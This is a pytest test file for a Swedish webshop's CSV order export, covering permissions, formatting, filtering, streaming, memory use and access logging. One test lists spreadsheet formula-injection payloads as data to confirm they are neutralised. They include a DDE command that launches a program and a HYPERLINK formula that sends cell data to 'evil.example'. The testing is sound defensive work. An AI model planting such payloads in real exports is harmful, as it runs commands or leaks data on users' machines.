"""The list as a file for a spreadsheet: whole, in order, harmless, and holding nothing while it is read."""

import csv
import gc
import io
import tracemalloc
from contextvars import Context
from dataclasses import replace
from datetime import UTC, datetime, timedelta

import pytest
from sqlalchemy import insert, select
from werkzeug.test import TestResponse

from tests.factories import ASA, LULEA, make_order
from tests.web.conftest import SWEDISH, Browser, SignIn, on_sqlite
from tests.web.settings.test_access_log import entries
from webshop_orders.db.extensions import db
from webshop_orders.models import AccessKind, Actor, Order, Role
from webshop_orders.operations.orders import cancellation
from webshop_orders.transactions.unit_of_work import editing
from webshop_orders.web.orders.export import FORMULA

NOON = datetime(2026, 11, 2, 12, tzinfo=UTC)
HEADER = [
    *("Order", "Referens", "Lagd", "Kund", "E-post", "Telefon", "Ort", "Leveransstatus", "Betalning", "Fraktsätt"),
    *("Antal", "Summa", "Ändrad", "Valuta"),
]
MANY = 1_200
MOST_GROWTH = 1.1


def rows(answer: TestResponse) -> list[list[str]]:
    assert answer.status_code == 200
    text = answer.data.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


def exported(browser: Browser, address: str = "/orders.csv") -> list[dict[str, str]]:
    header, *orders = rows(browser.get(address))
    return [dict(zip(header, order, strict=True)) for order in orders]


def copy_order(order: Order, times: int, *, first: int = 0) -> None:
    """More orders like one, placed a minute apart."""
    table = Order.__table__
    whole = dict(db.session.execute(select(table).where(table.c.id == order.id)).mappings().one())
    whole.pop("id")
    copies = [
        {
            **whole,
            "number": f"WS-{200_000 + turn}",
            "external_reference": None,
            "placed_at": NOON + timedelta(minutes=turn),
        }
        for turn in range(first, first + times)
    ]
    db.session.execute(insert(table), copies)
    db.session.commit()


@pytest.mark.parametrize("role", [Role.VIEWER, Role.WAREHOUSE])
def test_those_who_only_look_export_nothing(sign_in: SignIn, role: Role) -> None:
    browser = sign_in(role)
    assert browser.get("/orders.csv").status_code == 403
    assert "orders.csv" not in browser.get("/orders").text


def test_an_order_is_written_as_spreadsheets_in_swedish_read_it(staff: Browser) -> None:
    make_order(("LJUS-12", 3), placed_at=NOON, shipping_method="PostNord MyPack", external_reference="wc-1")
    answer = staff.get("/orders.csv")
    header, order = rows(answer)
    assert header == HEADER
    told = dict(zip(header, order, strict=True))
    assert told.pop("Ändrad")[:4] == "2026"
    assert told == {
        "Order": "WS-100001",
        "Referens": "wc-1",
        "Lagd": "2026-11-02 13:00",
        "Kund": "Åsa Öberg",
        "E-post": "asa@example.com",
        "Telefon": "'+46701234567",
        "Ort": "Luleå",
        "Leveransstatus": "Redo",
        "Betalning": "Faktura",
        "Fraktsätt": "PostNord MyPack",
        "Antal": "3",
        "Summa": "300,00",
        "Valuta": "SEK",
    }
    assert answer.mimetype == "text/csv"
    assert answer.headers["Content-Disposition"].startswith("attachment; filename=ordrar-20")
    assert answer.headers["Cache-Control"] == "no-store"


@pytest.mark.parametrize(
    "written",
    [
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "  =1+1",
        "＝1+1",
        '=HYPERLINK("https://evil.example?x="&A1;"Klicka")',
        "=1;=2",
        '"=1"',
    ],
)
@on_sqlite
def test_what_others_wrote_is_no_formula(staff: Browser, written: str) -> None:
    make_order(
        ("LJUS-12", 1),
        customer=replace(ASA, name=written, company=None, phone=written),
        shipping_address=replace(LULEA, city=written),
        payment_method=written,
        shipping_method=written,
        external_reference=written,
    )
    (order,) = exported(staff)
    for column in ("Kund", "Telefon", "Ort", "Betalning", "Fraktsätt", "Referens"):
        assert order[column].strip(" '") == written.strip(" '"), column
        assert order[column].strip()[0] not in "=+-@＝", column


def test_a_tab_or_a_line_break_does_not_hide_a_formula() -> None:
    for written in ("\t=1", "\r=1", "\n=1", "\rhej"):
        assert FORMULA.match(written)
    assert not FORMULA.match("Åsa - Öberg")


def test_the_file_has_what_the_list_is_asked_for(staff: Browser, anna: Actor) -> None:
    for _ in range(3):
        make_order(("LJUS-12", 1))
    with editing("WS-100002", None, anna) as order:
        cancellation.cancel(order, by=anna)
    assert [order["Order"] for order in exported(staff, "/orders.csv?status=ready&sort=number")] == [
        "WS-100001",
        "WS-100003",
    ]
    assert [order["Leveransstatus"] for order in exported(staff, "/orders.csv?q=100002")] == ["Makulerad"]
    link = next(link for link in staff.page("/orders?status=ready&q=oberg").links if link.startswith("/orders.csv"))
    assert [order["Order"] for order in exported(staff, link)] == ["WS-100003", "WS-100001"]


def test_an_empty_list_is_a_header(staff: Browser) -> None:
    assert rows(staff.get("/orders.csv?q=finns+inte")) == [HEADER]


def test_all_of_many_orders_come_once_and_in_order(staff: Browser) -> None:
    copy_order(make_order(("LJUS-12", 1), placed_at=NOON - timedelta(days=1)), MANY)
    numbers = [order["Order"] for order in exported(staff)]
    assert numbers == [*(f"WS-{200_000 + turn}" for turn in reversed(range(MANY))), "WS-100001"]


def test_nothing_is_held_while_the_reader_takes_their_time_or_breaks_off(staff: Browser) -> None:
    copy_order(make_order(("LJUS-12", 1)), MANY)
    db.session.remove()
    pool = db.engine.pool
    answer = Context().run(staff.client.get, "/orders.csv", headers=SWEDISH, buffered=False)
    stream = answer.iter_encoded()
    parts = [Context().run(next, stream) for _ in range(3)]
    assert sum(part.count(b"\n") for part in parts) < MANY
    assert pool.checkedout() == 0  # type: ignore[attr-defined]
    answer.close()
    assert pool.checkedout() == 0  # type: ignore[attr-defined]
    assert len(exported(staff)) == MANY + 1


@on_sqlite
def test_four_times_as_many_orders_take_no_more_memory(staff: Browser) -> None:
    order = make_order(("LJUS-12", 1))
    copy_order(order, 2 * MANY)
    read_through(staff)  # whatever is kept from the first one on
    few, bytes_of_few = read_through(staff)
    copy_order(order, 6 * MANY, first=2 * MANY)

    many, bytes_of_many = read_through(staff)

    assert bytes_of_many > 3.9 * bytes_of_few
    assert many <= MOST_GROWTH * few, (few, many)


def read_through(staff: Browser) -> tuple[int, int]:
    """Read the file as it comes and keep nothing of it; gives the most memory taken meanwhile, and the bytes read."""
    answer = Context().run(staff.client.get, "/orders.csv", headers=SWEDISH, buffered=False)
    stream = answer.iter_encoded()
    tracemalloc.start()
    try:
        length = 0
        while (part := Context().run(next, stream, None)) is not None:
            length += len(part)
            gc.collect()  # what waits to be collected is not kept, and comes and goes
        return tracemalloc.get_traced_memory()[1], length
    finally:
        tracemalloc.stop()
        answer.close()


def test_an_export_is_noted_in_the_access_log(staff: Browser, admin: Browser) -> None:
    make_order(("LJUS-12", 1))
    staff.get("/orders.csv?status=ready")
    (entry,) = entries(AccessKind.PERSONAL_DATA)
    assert (entry.who, entry.facts) == ("Staff Berg", {"what": "list_exported"})
    assert "Orderlistan exporterades." in admin.page("/settings/access").text
